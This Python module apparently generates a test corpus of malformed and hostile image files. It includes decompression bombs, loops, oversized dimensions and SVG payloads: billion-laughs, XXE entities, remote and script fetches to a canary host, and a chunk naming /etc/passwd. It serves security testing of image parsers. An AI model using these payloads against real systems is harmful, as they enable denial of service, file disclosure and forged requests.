"""Pictures that promise too much, lie, or never end."""

import struct
import zlib

from .case import Case, be, chunk, le, png, tiff, zeros

GROUP = "picture"


def cases(canary, samples):
    yield from pngs()
    yield from gifs()
    yield from tiffs()
    yield from jpegs(samples)
    yield from bmps()
    yield from webps()
    yield from heifs()
    yield from vectors(canary)
    yield Case(GROUP, "widest.ppm", b"P6\n1000000 1000000\n255\n" + bytes(64), "image/x-portable-pixmap")
    yield Case(GROUP, "endless-comment.ppm", b"P6\n#" + b"x" * 2_000_000, "image/x-portable-pixmap")


def pngs():
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/png", **more)

    empty = zlib.compress(b"")
    yield case("promise.png", png(60_000, 60_000, data=empty))
    yield case("widest.png", png(0x7FFFFFFF, 0x7FFFFFFF, data=empty))
    yield case("negative.png", png(0xFFFFFFFF, 0xFFFFFFFF, data=empty))
    yield case("no-pixels.png", png(0, 0, data=empty))
    yield case("honest-60-megapixels.png", png(20_000, 3_000), slow=True)
    yield case("one-row.png", png(4_000_000, 1))
    yield case("one-column.png", png(1, 1_000_000))
    yield case("lying-larger.png", png(5_000, 5_000, data=zlib.compress(bytes(2))))
    yield case("lying-smaller.png", png(8, 8, data=zeros(100 << 20)))
    yield case("lying-depth.png", png(64, 64, bits=16, color=6, data=zlib.compress(bytes(65 * 64))))
    yield case("interlaced.png", png(7_000, 7_000, bits=1, interlaced=1, data=zeros(64)))
    yield case("wrong-crc.png", png(64, 64)[:33 - 4] + b"\0\0\0\0" + png(64, 64)[33:])
    yield case("no-palette.png", png(64, 64, color=3))
    yield case("ztxt-bomb.png", png(64, 64, extra=chunk(b"zTXt", b"Comment\0\0" + zeros(200 << 20))))
    yield case("itxt-bomb.png", png(64, 64, extra=chunk(b"iTXt", b"XML\0\1\0\0\0" + zeros(200 << 20))))
    yield case("profile-bomb.png", png(64, 64, color=2, extra=chunk(b"iCCP", b"p\0\0" + zeros(200 << 20))))
    # ImageMagick read the file that such a chunk names.
    yield case("profile-path.png", png(64, 64, extra=chunk(b"tEXt", b"profile\0/etc/passwd")))
    yield case("many-chunks.png", png(64, 64, extra=chunk(b"tEXt", b"a\0b") * 60_000))
    frames = b"".join(
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 64, 64, 0, 0, 1, 1, 0, 0)) for n in range(20_000)
    )
    yield case("many-frames.png", png(64, 64, extra=chunk(b"acTL", be(1_000_000) + be(0)) + frames))
    loop = tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0x014A, 4, 1, 8)], nexts=8)
    yield case("exif-loop.png", png(64, 64, extra=chunk(b"eXIf", loop)))
    yield case("long-chunk.png", png(64, 64)[:33] + b"\xff\xff\xff\xffIDAT" + bytes(64))


def gif(width, height, frames, palette=2):
    colors = bytes(range(palette)) * 3
    return b"GIF89a" + le(width, 2) + le(height, 2) + bytes([0x80 | palette.bit_length() - 2, 0, 0]) + colors + frames + b";"


def frame(width, height, data=b"\x02\x02\x4c\x01\x00", x=0, y=0):
    return b"," + le(x, 2) + le(y, 2) + le(width, 2) + le(height, 2) + b"\0" + data


def gifs():
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/gif", **more)

    yield case("header-alone.gif", b"GIF89a" + b"\xff" * 4 + bytes(3) + b",")
    yield case("promise.gif", gif(65_535, 65_535, frame(65_535, 65_535)))
    yield case("65535-frames.gif", gif(16, 16, frame(1, 1) * 65_535))
    yield case("65535-large-frames.gif", gif(2_000, 2_000, frame(2_000, 2_000) * 65_535), slow=True)
    yield case("frame-outside.gif", gif(16, 16, frame(60_000, 60_000, x=65_000, y=65_000)))
    yield case("frame-larger.gif", gif(4, 4, frame(65_535, 65_535)))
    yield case("bad-code-size.gif", gif(16, 16, frame(16, 16, b"\x0d" + b"\xff" * 256 + b"\0")))
    yield case("endless-clears.gif", gif(8_000, 8_000, frame(8_000, 8_000, b"\x02" + (b"\xff" + b"\x24\x49\x92" * 85) * 4_000 + b"\0")))
    yield case("endless-comment.gif", gif(16, 16, b"!\xfe" + (b"\xff" + b"x" * 255) * 8_000 + b"\0" + frame(1, 1)))
    yield case("no-end.gif", gif(16, 16, frame(16, 16))[:-3])


def tiffs():
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/tiff", **more)

    def plain(width, height, offset=200, count=64, more=(), nexts=0, after=bytes(400), compression=1, rows=None):
        entries = [
            (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, compression), (262, 3, 1, 1),
            (273, 4, 1, offset), (277, 3, 1, 1), (278, 4, 1, height if rows is None else rows), (279, 4, 1, count), *more,
        ]
        return tiff(sorted(entries), after, nexts)

    yield case("promise.tiff", plain(1_000_000, 1_000_000))
    yield case("widest.tiff", plain(0xFFFFFFFF, 0xFFFFFFFF))
    yield case("directory-loop.tiff", plain(8, 8, nexts=8))
    yield case("sub-directory-loop.tiff", plain(8, 8, more=[(0x014A, 4, 1, 8), (0x8769, 4, 1, 8), (0x8825, 4, 1, 8)]))
    second = plain(8, 8)[8:]
    yield case("two-directories-loop.tiff", plain(8, 8, nexts=1_000, after=bytes(1_000 - 122) + second[:-404] + le(8) + bytes(400)))
    yield case("strip-past-end.tiff", plain(8, 8, offset=0xFFFFFF00))
    yield case("strip-too-long.tiff", plain(8, 8, count=0xFFFFFFFF))
    yield case("one-row-strips.tiff", plain(8, 2_000_000, rows=1))
    yield case("no-rows.tiff", plain(8, 8, rows=0))
    deflated = zeros(64 << 20)
    yield case("deflate-bomb.tiff", plain(8, 8, offset=600, count=len(deflated), compression=8, after=bytes(478) + deflated))
    yield case("deflate-60-megapixels.tiff", plain(8_000, 7_500, offset=600, count=len(deflated), compression=8, after=bytes(478) + deflated), slow=True)
    packed = b"\x81\x00" * 20_000
    yield case("packbits.tiff", plain(4_000, 4_000, offset=600, count=len(packed), compression=32773, after=bytes(478) + packed))
    for code in (2, 3, 4, 5, 6, 7, 34661, 50000, 50001):
        yield case(f"compression-{code}.tiff", plain(64, 64, compression=code))
    tiles = [(256, 4, 1, 60_000), (257, 4, 1, 1_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1)]
    yield case("million-tiles.tiff", tiff(tiles + [(322, 4, 1, 16), (323, 4, 1, 16), (324, 4, 1_000_000, 200), (325, 4, 1_000_000, 200)], bytes(900)))
    yield case("huge-tiles.tiff", tiff(tiles + [(322, 4, 1, 0x7FFFFFF0), (323, 4, 1, 0x7FFFFFF0), (324, 4, 1, 200), (325, 4, 1, 64)], bytes(900)))
    yield case("many-samples.tiff", plain(64, 64)[:10] + le(9, 2) + plain(64, 64, more=())[12:].replace(struct.pack("<HHII", 277, 3, 1, 1), struct.pack("<HHII", 277, 3, 1, 65_535)))
    yield case("65535-entries.tiff", b"II*\0" + le(8) + le(65_535, 2) + struct.pack("<HHII", 0x9003, 2, 0xFFFFFFFF, 8) * 65_535 + le(8))
    yield case("big.tiff", b"II+\0" + le(8, 2) + le(0, 2) + le(16, 8) + le(0xFFFFFFFFFFFFFFFF, 8) + bytes(64))
    yield case("header-alone.tiff", b"MM\0*" + b"\xff" * 4)


def segment(marker, data):
    return bytes([0xFF, marker]) + be(len(data) + 2, 2) + data


def frame_header(width, height, marker=0xC0, bits=8, parts=3):
    return segment(marker, bytes([bits]) + be(height, 2) + be(width, 2) + bytes([parts]) + b"".join(bytes([n + 1, 0x11, 0]) for n in range(parts)))


def jpegs(samples):
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/jpeg", **more)

    scan = segment(0xDA, b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00")
    yield case("lottapixel.jpg", b"\xff\xd8" + frame_header(64_250, 64_250) + scan + bytes(16))
    yield case("promise-7900.jpg", b"\xff\xd8" + frame_header(7_900, 7_900) + scan + bytes(16))
    yield case("no-height.jpg", b"\xff\xd8" + frame_header(64, 0) + scan + b"\xff\xdc\0\4\xff\xff")
    yield case("twelve-bits.jpg", b"\xff\xd8" + frame_header(64, 64, 0xC1, 12) + scan)
    yield case("lossless.jpg", b"\xff\xd8" + frame_header(64, 64, 0xC3) + scan)
    yield case("arithmetic.jpg", b"\xff\xd8" + frame_header(64, 64, 0xC9) + scan)
    yield case("many-parts.jpg", b"\xff\xd8" + frame_header(64, 64, parts=255) + scan)
    yield case("fill-bytes.jpg", b"\xff\xd8" + b"\xff" * 4_000_000)
    yield case("short-segment.jpg", b"\xff\xd8\xff\xe1\0\0" + b"Exif\0\0" + bytes(64))
    yield case("many-segments.jpg", b"\xff\xd8" + segment(0xE1, b"Exif\0\0MM") * 100_000)
    loop = tiff([(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0x0112, 3, 0xFFFFFFFF, 3)], nexts=8)
    twin = tiff([(0x8769, 4, 1, 50), (0x8825, 4, 1, 50)], le(1, 2) + struct.pack("<HHII", 0x8769, 4, 1, 8) + le(50))
    many = b"MM\0*" + be(8) + b"\xff\xff" + struct.pack(">HHII", 0x010F, 2, 0xFFFFFFFF, 8) * 5_000
    for name, photo in samples.items():
        if not name.endswith(".jpg"):
            continue
        if len(photo) < 20_000:
            yield case("exif-loop-" + name, photo[:2] + segment(0xE1, b"Exif\0\0" + loop) + photo[2:])
            yield case("exif-twins-" + name, photo[:2] + segment(0xE1, b"Exif\0\0" + twin) + photo[2:])
            yield case("exif-many-" + name, photo[:2] + segment(0xE1, b"Exif\0\0" + many) + photo[2:])
        if name == "progressive.jpg":
            start = photo.rindex(b"\xff\xda")
            yield case("scan-bomb.jpg", photo[:-2] + photo[start:-2] * 2_000 + b"\xff\xd9")
            at = photo.index(b"\xff\xc2")
            large = photo[: at + 5] + be(7_900, 2) + be(7_900, 2) + photo[at + 9 :]
            yield case("large-progressive.jpg", large)
            start = large.rindex(b"\xff\xda")
            yield case("large-scan-bomb.jpg", large[:-2] + large[start:-2] * 5_000 + b"\xff\xd9", slow=True)
        if name == "rgb.jpg":
            icc = b"".join(segment(0xE2, b"ICC_PROFILE\0" + bytes([n, 255]) + b"\xff" * 60_000) for n in range(1, 255))
            yield case("profile-bomb.jpg", photo[:2] + icc + photo[2:])


def bmp(width, height, bits=24, compression=0, data=bytes(64), offset=54, size=40, colors=0):
    header = struct.pack("<IiiHHIIiiII", size, width, height, 1, bits, compression, 0, 0, 0, colors, 0)
    return b"BM" + le(54 + len(data)) + le(0) + le(offset) + header + data


def bmps():
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/bmp", **more)

    least = -(1 << 31)
    yield case("promise.bmp", bmp(100_000, 100_000))
    yield case("least-height.bmp", bmp(64, least))
    yield case("least-width.bmp", bmp(least, 64))
    yield case("most.bmp", bmp((1 << 31) - 1, (1 << 31) - 1))
    yield case("one-bit-wide.bmp", bmp(2_000_000_000, 1, bits=1))
    yield case("one-row.bmp", bmp(60_000_000, 1, bits=1))
    yield case("one-row-of-color.bmp", bmp(60_000_000, 1))
    yield case("one-column.bmp", bmp(1, 60_000_000, bits=1))
    yield case("runs.bmp", bmp(30_000, 2_000, bits=8, compression=1, data=bytes(1024) + b"\xff\x01" * 4_000, offset=1_078), slow=True)
    yield case("runs-jumping.bmp", bmp(64, 64, bits=8, compression=1, data=bytes(1024) + b"\0\2\xff\xff" * 200_000, offset=1_078))
    yield case("nibbles.bmp", bmp(64, 64, bits=4, compression=2, data=bytes(64) + b"\0\xff" * 2_000, offset=118))
    yield case("offset-past-end.bmp", bmp(64, 64, offset=0xFFFFFFFF))
    yield case("offset-in-header.bmp", bmp(64, 64, offset=1))
    yield case("many-colors.bmp", bmp(64, 64, bits=8, colors=0xFFFFFFFF))
    yield case("bits-255.bmp", bmp(64, 64, bits=255))
    yield case("masks.bmp", bmp(64, 64, bits=32, compression=3, data=b"\xff" * 16 + bytes(64)))
    yield case("long-header.bmp", bmp(64, 64, size=0xFFFFFFFF))
    yield case("tiny-header.bmp", bmp(64, 64, size=1))
    yield case("jpeg-within.bmp", bmp(64, 64, bits=0, compression=4))


def riff(body, size=None):
    return b"RIFF" + le(len(body) + 4 if size is None else size) + b"WEBP" + body


def webps():
    def case(name, data, **more):
        return Case(GROUP, name, data, "image/webp", **more)

    lossless = b"\x2f\xfe\xbf\xff\x0f" + bytes(9)
    plain = b"VP8L" + le(14) + lossless
    yield case("promise.webp", riff(plain))
    yield case("lying-length.webp", riff(plain, 0xFFFFFFFF))
    canvas = b"VP8X" + le(10) + b"\x02\0\0\0"
    small = b"VP8L" + le(10) + b"\x2f\0\0\0\0" + bytes(5)
    moving = b"ANMF" + le(16 + len(small)) + bytes(12) + b"\x01\0\0\0" + small
    yield case("65535-frames.webp", riff(canvas + bytes(6) + b"ANIM" + le(6) + bytes(6) + moving * 65_535))
    yield case("widest-canvas.webp", riff(canvas + b"\xff" * 6 + b"ANIM" + le(6) + bytes(6) + moving))
    yield case("exif-loop.webp", riff(canvas + bytes(6) + small + b"EXIF" + le(26) + tiff([(0x8769, 4, 1, 8)], nexts=8)))
    yield case("endless-chunks.webp", riff(canvas + bytes(6) + (b"ODDS" + le(0)) * 200_000))
    yield case("long-chunk.webp", riff(canvas + bytes(6) + b"EXIF" + b"\xff" * 4 + bytes(16)))


def box(kind, data, size=None):
    return be(len(data) + 8 if size is None else size) + kind + data


def heifs():
    def heif(brand, width, height, more=b"", location=b""):
        sizes = box(b"ispe", be(0) + be(width) + be(height))
        properties = box(b"iprp", box(b"ipco", sizes + more) + box(b"ipma", be(0) + be(1) + be(1, 2) + b"\1\x81"))
        items = box(b"iinf", be(0) + be(1, 2) + box(b"infe", b"\2\0\0\0" + be(1, 2) + be(0, 2) + b"hvc1\0"))
        handler = box(b"hdlr", be(0) * 2 + b"pict" + bytes(13))
        primary = box(b"pitm", be(0) + be(1, 2))
        return box(b"ftyp", brand + be(0) + b"mif1" + brand) + box(b"meta", be(0) + handler + primary + items + location + properties)

    past = box(b"iloc", be(0) + b"\x44\x00" + be(1, 2) + be(1, 2) + be(0, 2) + be(1, 2) + b"\xff" * 8)
    crowd = box(b"iloc", be(0) + b"\x44\x00" + be(0xFFFF, 2) + bytes(64))
    for brand, kind in ((b"heic", "heic"), (b"avif", "avif")):
        declared = "image/" + kind
        yield Case(GROUP, "promise." + kind, heif(brand, 65_535, 65_535, location=past), declared)
        yield Case(GROUP, "widest." + kind, heif(brand, 0xFFFFFFFF, 0xFFFFFFFF), declared)
        yield Case(GROUP, "past-end." + kind, heif(brand, 64, 64, location=past), declared)
        yield Case(GROUP, "crowd." + kind, heif(brand, 64, 64, location=crowd), declared)
        yield Case(GROUP, "endless-box." + kind, box(b"ftyp", brand + be(0) + brand) + box(b"meta", be(0), 1) + b"\xff" * 8, declared)
        nested = be(0)
        for _ in range(2_000):
            nested = box(b"meta", be(0) + nested)
        yield Case(GROUP, "nested." + kind, box(b"ftyp", brand + be(0) + brand) + nested, declared)
        yield Case(GROUP, "empty-boxes." + kind, box(b"ftyp", brand + be(0) + brand) + box(b"free", b"") * 200_000, declared)


def vectors(canary):
    def case(name, body, prolog="", root='width="100" height="100"'):
        head = f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {root}>'
        return Case("drawing", name, (head + body + "</svg>").encode(), "image/svg+xml")

    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    yield case("laughs.svg", "<text>&a9;</text>", f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]>')
    yield case("entity.svg", "<text>&e;</text>", f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{canary.file}">]>')
    yield case("file.svg", f'<image xlink:href="{canary.file}" width="9" height="9"/>')
    yield case("remote.svg", f'<image href="{canary.http}.png" width="9" height="9"/>')
    yield case("style.svg", f'<style>@import url("{canary.http}.css"); @font-face {{ src: url("{canary.file}") }}</style>')
    yield case("script.svg", f'<script>fetch("{canary.http}")</script>')
    yield case("foreign.svg", f'<foreignObject><iframe src="{canary.file}"/></foreignObject>')
    yield case("recursion.svg", '<g id="a"><use xlink:href="#a"/><use xlink:href="#a"/></g>')
    doubled = "".join(f'<g id="g{n}"><use xlink:href="#g{n - 1}"/><use xlink:href="#g{n - 1}"/></g>' for n in range(1, 40))
    yield case("doubled.svg", f'<g id="g0"><rect width="9" height="9"/></g>{doubled}')
    yield case("pattern.svg", '<pattern id="p" width="1e-9" height="1e-9"><rect width="9" height="9"/></pattern><rect width="9" height="9" fill="url(#p)"/>')
    yield case("blur.svg", '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><rect width="9" height="9" filter="url(#f)"/>')
    yield case("huge.svg", "", root='viewBox="0 0 1000000000 1000000000" width="1000000000" height="1000000000"')
    yield case("deep.svg", "<g>" * 100_000)
